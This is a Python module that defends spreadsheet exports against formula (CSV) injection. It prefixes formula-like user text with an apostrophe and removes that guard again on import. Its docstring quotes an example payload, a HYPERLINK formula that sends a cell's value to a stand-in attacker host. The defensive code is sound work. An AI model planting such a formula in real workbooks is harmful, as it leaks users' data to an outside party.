"""What every workbook the site writes shares: user text is text, never a formula.

A spreadsheet runs a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (and, once saved as
CSV and opened again, one beginning with a tab or a carriage return): an enterprise named
``=HYPERLINK("http://evil.example/?x="&A2,"Click")`` would become a live link. As OWASP advises
against CSV injection, such text is written with a leading apostrophe (Excel's own "this is
text" mark), and always as a string cell. Imports take the apostrophe off again, so a value
survives an export and re-import unchanged.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"


def _formula_like(text: str) -> bool:
    # Apostrophes already in front are counted in, so that a guarded text survives a round trip.
    return text.lstrip(GUARD).startswith(FORMULA_STARTS)


def neutralise(text: str) -> str:
    """Return ``text`` as a spreadsheet must hold it: guarded when it would start a formula."""
    return GUARD + text if _formula_like(text) else text


def unguard(text: str) -> str:
    """Return text read from a workbook without the guard that ``neutralise`` put before it."""
    return text[1:] if text.startswith(GUARD) and _formula_like(text[1:]) else text
